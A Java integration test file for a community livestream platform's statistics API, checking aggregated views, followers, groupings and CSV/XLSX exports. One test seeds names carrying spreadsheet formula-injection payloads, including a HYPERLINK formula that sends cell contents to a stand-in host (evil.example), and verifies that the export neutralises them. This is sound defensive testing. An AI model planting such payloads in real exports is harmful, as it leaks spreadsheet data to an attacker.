package lianxin.stats;

import static lianxin.support.Asserts.assertField;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vertx.core.Vertx;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.junit5.VertxExtension;
import java.io.ByteArrayInputStream;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import lianxin.support.Http;
import lianxin.support.Seed;
import lianxin.support.TestServer;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * A district with a sub-district room (党群连心桥) and two community rooms: what officials see must add up to
 * what hosts entered through the API and the CSV import.
 */
@ExtendWith(VertxExtension.class)
class OverviewTest {

  static Http http;
  static Seed seed;
  static long district;
  static long subdistrict;
  static long benteng;
  static long shiqi;
  static long bridge;
  static long bentengRoom;
  static long shiqiRoom;
  static long medical;
  static long unmeasured;

  @BeforeAll
  static void start(Vertx vertx) {
    http = Http.local(vertx);
    seed = new Seed(http);
    district = seed.org("回民区", "district", null);
    subdistrict = seed.org("呼伦北路街道", "subdistrict", district);
    benteng = seed.org("奔腾社区", "community", subdistrict);
    shiqi = seed.org("仕奇社区", "community", subdistrict);
    bridge = seed.room(subdistrict, 114, "Asia/Shanghai");
    bentengRoom = seed.room(benteng, 0, "Asia/Shanghai");
    shiqiRoom = seed.room(shiqi, 0, "Asia/Shanghai");
    medical = seed.column(bridge, "医疗");

    // 党群连心桥: three aired in September (one never measured), one in October, one cancelled, one to come.
    long sep4 = episode(bridge, "2024-09-04", medical);
    long sep11 = episode(bridge, "2024-09-11", medical);
    unmeasured = episode(bridge, "2024-09-18", null);
    long oct2 = episode(bridge, "2024-10-02", null);
    long cancelled = episode(bridge, "2024-10-09", null);
    // Entered after the fact, it counts as aired at once; the host says it did not air.
    assertEquals(200, http.post("/api/episodes/" + cancelled + "/not-aired", new JsonObject().put("reason", "国庆调休")).status());
    episode(bridge, "2030-10-16", null);
    put(sep4, new JsonObject().put("platform", "douyin").put("views", 12_000).put("likes", 2_000).put("comments", 300).put("shares", 100));
    put(sep11, new JsonObject().put("platform", "douyin").put("views", 8_000).put("likes", 1_000).put("comments", 100).put("shares", 50));
    put(oct2, new JsonObject().put("platform", "douyin").put("views", 4_000).put("likes", 400).put("comments", 40).put("shares", 10));
    // The community rooms' numbers come from a platform export.
    long bt = episode(bentengRoom, "2024-09-10", null);
    long sq = episode(shiqiRoom, "2024-10-15", null);
    Http.Reply imported = http.raw(HttpMethod.POST, "/api/metrics/import",
      "\uFEFF节目ID,平台,观看人次,点赞,评论,分享\n" + bt + ",抖音,3000,300,30,20\n" + bt + ",快手,1000,50,5,5\n" + sq + ",视频号,500,20,2,1\n",
      "text/csv");
    assertEquals(200, imported.status(), imported.body());

    follow(bridge, 10_000, "2024-08-20T12:00:00+08:00");
    follow(bridge, 14_400, "2024-10-20T12:00:00+08:00");
    follow(bentengRoom, 2_000, "2024-09-15T12:00:00+08:00");
    follow(bentengRoom, 2_500, "2024-10-25T12:00:00+08:00");

    for (String session : new String[] {"viewer-one-1", "viewer-two-2"}) {
      assertEquals(204, http.post("/api/episodes/" + sep4 + "/plays", new JsonObject()
        .put("sessionId", Seed.unique(session)).put("position", 60).put("watchedSeconds", 60)).status());
    }
    // Beacons are written a moment after their 204.
    long deadline = System.nanoTime() + 5_000_000_000L;
    while (http.get("/api/episodes/" + sep4 + "/metrics").json().getJsonObject("replay").getLong("views") < 2 && System.nanoTime() < deadline) {
      lianxin.support.Node.sleep(50);
    }
  }

  static long episode(long room, String day, Long column) {
    JsonObject body = new JsonObject().put("title", "第" + day + "期").put("startsAt", day + "T19:30:00+08:00")
      .put("endsAt", day + "T20:30:00+08:00").put("columnId", column).put("confirmRenumber", true);
    Http.Reply reply = http.post("/api/rooms/" + room + "/episodes", body);
    assertEquals(201, reply.status(), reply.body());
    return reply.json().getLong("id");
  }

  static void put(long episode, JsonObject metrics) {
    Http.Reply reply = http.raw(HttpMethod.PUT, "/api/episodes/" + episode + "/metrics", metrics.encode(), "application/json");
    assertEquals(200, reply.status(), reply.body());
  }

  static void follow(long room, long count, String at) {
    assertEquals(201, http.post("/api/rooms/" + room + "/followers",
      new JsonObject().put("platform", "douyin").put("count", count).put("at", at)).status());
  }

  static JsonObject overview(String query) {
    Http.Reply reply = http.get("/api/stats/overview?" + query);
    assertEquals(200, reply.status(), reply.body());
    return reply.json();
  }

  @Test
  void totalsAreWhatWasEntered() {
    JsonObject totals = overview("orgId=" + district + "&from=2024-09-01&to=2024-10-31").getJsonObject("totals");
    assertEquals(3, totals.getLong("rooms"));
    assertEquals(6, totals.getLong("episodesAired"), "cancelled and future episodes are not aired");
    assertEquals(5, totals.getLong("episodesWithMetrics"));
    assertEquals(6.0, totals.getDouble("hoursAired"));
    assertEquals(12_000 + 8_000 + 4_000 + 3_000 + 1_000 + 500, totals.getLong("views"));
    assertEquals(2_000 + 1_000 + 400 + 300 + 50 + 20, totals.getLong("likes"));
    assertEquals(300 + 100 + 40 + 30 + 5 + 2, totals.getLong("comments"));
    assertEquals(100 + 50 + 10 + 20 + 5 + 1, totals.getLong("shares"));
    assertEquals(Math.round((3_770 + 477 + 186) * 10_000.0 / 28_500) / 10_000.0, totals.getDouble("engagementRate"));
    // The unmeasured episode counts as aired but not in the average: 28,500 views over 5 episodes.
    assertEquals(5_700.0, totals.getDouble("avgViews"));
    assertEquals(14_400 + 2_500, totals.getLong("followers"));
    assertEquals("1.69万", totals.getString("followersLabel"));
    assertEquals(4_400 + 500, totals.getLong("followerGrowth"));
    assertEquals(2, totals.getLong("replayViews"));
  }

  @Test
  void roomsRankedByViews() {
    JsonArray rooms = overview("orgId=" + district + "&from=2024-09-01&to=2024-10-31&groupBy=room").getJsonArray("groups");
    assertEquals(3, rooms.size());
    assertEquals(String.valueOf(bridge), rooms.getJsonObject(0).getString("key"));
    assertEquals(1, rooms.getJsonObject(0).getInteger("rank"));
    assertEquals(24_000, rooms.getJsonObject(0).getLong("views"));
    assertEquals(4, rooms.getJsonObject(0).getLong("episodesAired"));
    assertEquals(8_000.0, rooms.getJsonObject(0).getDouble("avgViews"));
    assertEquals(14_400, rooms.getJsonObject(0).getLong("followers"));
    assertEquals(String.valueOf(bentengRoom), rooms.getJsonObject(1).getString("key"));
    assertEquals(4_000, rooms.getJsonObject(1).getLong("views"));
    assertEquals(500, rooms.getJsonObject(2).getLong("views"));
    // (20 + 2 + 1) / 500
    assertEquals(0.046, rooms.getJsonObject(2).getDouble("engagementRate"));
    // No reading at all: unknown (the dashboard's —), not 0.
    assertNull(rooms.getJsonObject(2).getValue("followers"), "no readings, no followers");
    assertNull(rooms.getJsonObject(2).getValue("followerGrowth"), "no readings, no growth");
  }

  @Test
  void roomsCarryWhatTheirRoomPageCounts() {
    // 党群连心桥 began on Lianxin after 114 episodes; Lianxin holds the four that aired since (the cancelled one and
    // the one to come are not aired). Its room page says 已播 118 期: the overview says where that comes from.
    JsonObject overview = overview("orgId=" + district + "&from=2024-09-01&to=2024-09-30&groupBy=room");
    JsonObject room = overview.getJsonArray("groups").stream().map(JsonObject.class::cast)
      .filter(g -> g.getString("key").equals(String.valueOf(bridge))).findFirst().orElseThrow();
    assertEquals(3, room.getLong("episodesAired"), "September alone");
    assertEquals(114, room.getLong("episodeOffset"));
    assertEquals(4, room.getLong("episodesRecorded"));
    assertEquals(114, room.getLong("episodesBefore"));
    assertEquals(118, room.getLong("episodeCount"));
    assertEquals(http.get("/api/rooms/" + bridge).json().getLong("episodeCount"), room.getLong("episodeCount"), "the room page's 已播 N 期");
    // The scope's, all time, beside the period's totals (which are the same whatever the breakdown).
    JsonObject aired = overview.getJsonObject("aired");
    assertEquals(114, aired.getLong("episodesBefore"));
    assertEquals(aired.getLong("episodesRecorded") + 114, aired.getLong("episodeCount"));
    assertNull(overview.getJsonObject("totals").getValue("episodeCount"));
    // Other breakdowns do not carry them.
    assertNull(overview("orgId=" + district + "&groupBy=month").getValue("aired"));

    // A back-catalogue episode entered with its old number (第50期) is one of the 114: Lianxin now holds it, and
    // the episodes before Lianxin that it does not hold are one fewer; the room page still says 118.
    Http.Reply back = http.post("/api/rooms/" + bridge + "/episodes", new JsonObject().put("title", "老节目").put("number", 50)
      .put("startsAt", "2023-05-10T19:30:00+08:00").put("endsAt", "2023-05-10T20:30:00+08:00"));
    assertEquals(201, back.status(), back.body());
    JsonObject after = overview("orgId=" + district + "&from=2024-09-01&to=2024-09-30&groupBy=room").getJsonArray("groups").stream()
      .map(JsonObject.class::cast).filter(g -> g.getString("key").equals(String.valueOf(bridge))).findFirst().orElseThrow();
    assertEquals(5, after.getLong("episodesRecorded"));
    assertEquals(113, after.getLong("episodesBefore"));
    assertEquals(118, after.getLong("episodeCount"));
    assertEquals(http.get("/api/rooms/" + bridge).json().getLong("episodeCount"), after.getLong("episodeCount"));
  }

  @Test
  void everyMonthOfThePeriodIsAGroup() {
    // July and August aired nothing: they are there with zeros, labelled as officials read months.
    JsonObject overview = overview("orgId=" + district + "&from=2024-07-01&to=2024-10-31&groupBy=month");
    JsonArray months = overview.getJsonArray("groups");
    assertEquals(List.of("2024-07", "2024-08", "2024-09", "2024-10"), months.stream().map(m -> ((JsonObject) m).getString("key")).toList());
    assertEquals(List.of("2024年7月", "2024年8月", "2024年9月", "2024年10月"), months.stream().map(m -> ((JsonObject) m).getString("label")).toList());
    for (int i : new int[] {0, 1}) {
      JsonObject empty = months.getJsonObject(i);
      assertEquals(0, empty.getLong("episodesAired"));
      assertEquals(0, empty.getLong("views"));
      assertNull(empty.getValue("avgViews"), "no views reported: unknown");
      assertNull(empty.getValue("engagementRate"));
    }
    // Followers at each month's end carry over the months without episodes: 10,000 read in August.
    assertEquals(10_000, months.getJsonObject(1).getLong("followers"));
    assertEquals(0, months.getJsonObject(1).getLong("followerGrowth"), "a first reading is not growth");
    assertEquals(14_400 + 2_500, months.getJsonObject(3).getLong("followers"));
    assertEquals(6, overview.getJsonObject("totals").getLong("episodesAired"));
  }

  @Test
  void exportsAreNamedAfterTheOrgAndThePeriod() {
    String name = orgName(district);
    assertTrue(name.startsWith("回民区"), name);
    Http.Reply xlsx = http.get("/api/stats/overview?orgId=" + district + "&from=2024-09-01&to=2024-10-31&format=xlsx");
    assertEquals(200, xlsx.status());
    String disposition = xlsx.headers().get("content-disposition");
    assertEquals("attachment; filename=\"overview_" + district + "_2024-09-01_2024-10-31.xlsx\"; filename*=UTF-8''"
      + ExportName.encode(name + "_2024-09-01_2024-10-31.xlsx"), disposition);
    assertEquals(name + "_2024-09-01_2024-10-31.xlsx", filenameStar(disposition));
    Http.Reply csv = http.get("/api/stats/overview?orgId=" + district + "&from=2024-09-01&groupBy=month&format=csv");
    assertEquals(name + "_2024-09-01_至今_按月.csv", filenameStar(csv.headers().get("content-disposition")));
    Http.Reply city = http.get("/api/stats/overview?to=2024-10-31&format=csv");
    assertEquals("全市_最早_2024-10-31.csv", filenameStar(city.headers().get("content-disposition")));
    assertTrue(city.headers().get("content-disposition").contains("filename=\"overview_city_start_2024-10-31.csv\""));
    // JSON is not an attachment.
    assertNull(http.get("/api/stats/overview?orgId=" + district).headers().get("content-disposition"));
    // A name is made safe for every file system: no separators, reserved or control characters, no blanks.
    assertEquals("a_b_c_d_e_f", ExportName.safe("a/b\\c:d\u3000e\tf"));
    assertEquals("%E6%96%B0%E5%9F%8E%E5%8C%BA_2026-01-01.xlsx", ExportName.encode("新城区_2026-01-01.xlsx"));
    assertEquals("%20%25%22%27%2A", ExportName.encode(" %\"'*"));
  }

  /** The file name in {@code filename*=UTF-8''...}, decoded. */
  private static String filenameStar(String disposition) {
    String encoded = disposition.substring(disposition.indexOf("filename*=UTF-8''") + "filename*=UTF-8''".length());
    return java.net.URLDecoder.decode(encoded.replace("+", "%2B"), java.nio.charset.StandardCharsets.UTF_8);
  }

  private static String orgName(long id) {
    return overview("orgId=" + id + "&groupBy=month").getString("orgName");
  }

  @Test
  void byMonthColumnAndChildUnit() {
    JsonArray months = overview("orgId=" + district + "&from=2024-09-01&to=2024-10-31&groupBy=month").getJsonArray("groups");
    assertEquals("2024-09", months.getJsonObject(0).getString("key"));
    assertEquals(4, months.getJsonObject(0).getLong("episodesAired"));
    assertEquals(12_000 + 8_000 + 4_000, months.getJsonObject(0).getLong("views"));
    assertEquals("2024-10", months.getJsonObject(1).getString("key"));
    assertEquals(4_000 + 500, months.getJsonObject(1).getLong("views"));

    JsonArray columns = overview("orgId=" + district + "&from=2024-09-01&to=2024-10-31&groupBy=column").getJsonArray("groups");
    Map<String, JsonObject> byLabel = new HashMap<>();
    columns.forEach(c -> byLabel.put(((JsonObject) c).getString("key"), (JsonObject) c));
    assertEquals(20_000, byLabel.get(String.valueOf(medical)).getLong("views"));
    assertTrue(byLabel.get(String.valueOf(medical)).getString("label").startsWith("医疗"));
    assertEquals(8_500, byLabel.get(null).getLong("views"));

    JsonArray units = overview("orgId=" + subdistrict + "&from=2024-09-01&to=2024-10-31&groupBy=org").getJsonArray("groups");
    assertEquals(3, units.size());
    assertTrue(units.getJsonObject(0).getString("label").endsWith("（本级）"), units.encode());
    assertEquals(24_000, units.getJsonObject(0).getLong("views"));
    assertEquals(String.valueOf(benteng), units.getJsonObject(1).getString("key"));
    assertEquals(2_500, units.getJsonObject(1).getLong("followers"));

    JsonObject community = overview("orgId=" + benteng).getJsonObject("totals");
    assertEquals(1, community.getLong("rooms"));
    assertEquals(4_000, community.getLong("views"));
  }

  @Test
  void topEpisodesAndTheCsvExport() {
    JsonObject all = overview("orgId=" + district + "&from=2024-09-01&to=2024-10-31");
    JsonObject top = all.getJsonArray("topEpisodes").getJsonObject(0);
    assertEquals("第2024-09-04期", top.getString("title"));
    assertEquals(12_000, top.getLong("views"));
    assertEquals(2, top.getLong("replayViews"));

    Http.Reply csv = http.get("/api/stats/overview?orgId=" + district + "&from=2024-09-01&to=2024-10-31&groupBy=month&format=csv");
    assertEquals(200, csv.status(), csv.body());
    assertTrue(csv.headers().get("content-type").startsWith("text/csv"));
    String[] lines = csv.body().split("\r\n");
    assertTrue(lines[0].startsWith("\uFEFF分组,直播间数,播出期数"), lines[0]);
    assertEquals(4, lines.length);
    assertTrue(lines[1].startsWith("2024年9月,"), lines[1]);
    assertTrue(lines[3].startsWith("合计,3,6,5,6.0,16900,4900,28500,5700.0,2,"), lines[3]);
  }

  @Test
  void theXlsxExportHoldsTheJsonFigures() throws Exception {
    String query = "orgId=" + district + "&from=2024-09-01&to=2024-10-31&groupBy=room";
    JsonObject json = overview(query);
    HttpResponse<byte[]> xlsx = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
      URI.create("http://localhost:" + TestServer.port() + "/api/stats/overview?" + query + "&format=xlsx")).build(),
      HttpResponse.BodyHandlers.ofByteArray());
    assertEquals(200, xlsx.statusCode());
    assertEquals("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx.headers().firstValue("content-type").orElseThrow());
    assertTrue(xlsx.headers().firstValue("content-disposition").orElseThrow().contains("filename=\"overview_" + district + "_2024-09-01_2024-10-31.xlsx\""));
    try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx.body()))) {
      List<Row> rows = workbook.getFirstSheet().read();
      assertEquals("分组", rows.get(0).getCellText(0));
      assertEquals("观看人次", rows.get(0).getCellText(1 + columnOf("views")));
      JsonArray groups = json.getJsonArray("groups");
      assertEquals(groups.size() + 2, rows.size());
      for (int i = 0; i < groups.size(); i++) {
        assertRow(rows.get(i + 1), groups.getJsonObject(i).getString("label"), groups.getJsonObject(i));
      }
      assertRow(rows.get(rows.size() - 1), "合计", json.getJsonObject("totals"));
      // Spot checks against what was entered, read as numbers from the sheet.
      Row totals = rows.get(rows.size() - 1);
      assertEquals(new BigDecimal(28_500), totals.getCellAsNumber(1 + columnOf("views")).orElseThrow());
      assertEquals(new BigDecimal(16_900), totals.getCellAsNumber(1 + columnOf("followers")).orElseThrow());
    }
  }

  /** Every figure of the row equals the JSON's; a figure the JSON leaves null is an empty cell. */
  private static void assertRow(Row row, String label, JsonObject figures) {
    assertEquals(label, row.getCellText(0));
    for (int c = 0; c < OverviewCsv.COLUMNS.size(); c++) {
      String field = OverviewCsv.COLUMNS.get(c).field();
      Object expected = figures.getValue(field);
      Optional<BigDecimal> cell = row.getCellCount() > c + 1 && row.getCell(c + 1) != null && row.getCell(c + 1).getType() == CellType.NUMBER
        ? row.getCellAsNumber(c + 1) : Optional.empty();
      if (expected == null) {
        assertTrue(cell.isEmpty(), label + " " + field + " should be empty");
      } else {
        assertEquals(0, new BigDecimal(expected.toString()).compareTo(cell.orElseThrow()), label + " " + field + ": " + expected + " vs " + cell);
      }
    }
  }

  private static int columnOf(String field) {
    for (int c = 0; c < OverviewCsv.COLUMNS.size(); c++) {
      if (OverviewCsv.COLUMNS.get(c).field().equals(field)) {
        return c;
      }
    }
    throw new AssertionError(field);
  }

  @Test
  void aChangeShowsAtOnceThoughTheOverviewIsCached() {
    String query = "orgId=" + benteng + "&groupBy=room";
    long before = overview(query).getJsonObject("totals").getLong("views");
    long extra = episode(bentengRoom, "2024-11-05", null);
    put(extra, new JsonObject().put("platform", "douyin").put("views", 700));
    assertEquals(before + 700, overview(query).getJsonObject("totals").getLong("views"));
  }

  @Test
  void theCsvExportCarriesNoFormulas() {
    // A spreadsheet opening the export must show these names as text, not run them (OWASP CSV injection).
    long org = seed.org("=HYPERLINK(\"http://evil.example/\"&A1,\"点我\")", "district", null);
    Http.Reply created = http.post("/api/rooms", new JsonObject().put("name", "=HYPERLINK(\"http://evil.example/\",\"点我\")")
      .put("orgId", org).put("timezone", "Asia/Shanghai"));
    assertEquals(201, created.status(), created.body());
    long room = created.json().getLong("id");
    long tabbed = seed.column(room, "@SUM(1+1)");
    put(episode(room, "2024-09-03", tabbed), new JsonObject().put("platform", "douyin").put("views", 1_500).put("likes", 30));
    String query = "orgId=" + org + "&from=2024-09-01&to=2024-09-30";

    String[] byRoom = http.get("/api/stats/overview?" + query + "&groupBy=room&format=csv").body().split("\r\n");
    assertEquals(3, byRoom.length, String.join("\n", byRoom));
    // No follower reading: the followers and growth cells are empty, not 0; no replay or live viewers: 0, 0; no
    // questions: 0, 0, 0 and no median.
    assertEquals("\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"点我\"\")\",1,1,1,1.0,,,1500,1500.0,0,0,30,0,0,0,0.02,0,0,0,", byRoom[1]);
    assertTrue(byRoom[2].startsWith("合计,1,1,1,1.0,"), byRoom[2]);
    String[] byOrg = http.get("/api/stats/overview?" + query + "&groupBy=org&format=csv").body().split("\r\n");
    assertTrue(byOrg[1].startsWith("\"'=HYPERLINK("), byOrg[1]);
    String[] byColumn = http.get("/api/stats/overview?" + query + "&groupBy=column&format=csv").body().split("\r\n");
    assertTrue(byColumn[1].startsWith("\"'@SUM(1+1)"), byColumn[1]);
    // Names lose surrounding blanks when saved, so a leading tab or carriage return is checked here.
    assertEquals("'\t=1+1", OverviewCsv.text("\t=1+1"));
    assertEquals("'\r-1", OverviewCsv.text("\r-1"));
    assertEquals("党群连心桥", OverviewCsv.text("党群连心桥"));
  }

  @Test
  void badQueriesAreRefused() {
    assertEquals(404, http.get("/api/stats/overview?orgId=999999999").status());
    assertEquals(400, http.get("/api/stats/overview?groupBy=week").status());
    assertEquals(400, http.get("/api/stats/overview?from=last-month").status());
    assertEquals(422, http.get("/api/stats/overview?from=2024-10-01&to=2024-09-01").status());
    assertEquals(400, http.get("/api/stats/overview?format=pdf").status());
  }

  @Test
  void datesOutsideThePlausibleWindowNameTheirField() {
    assertField(http.get("/api/stats/overview?to=9999-12-31"), 422, "to");
    assertField(http.get("/api/stats/overview?from=0001-01-01"), 422, "from");
  }
}
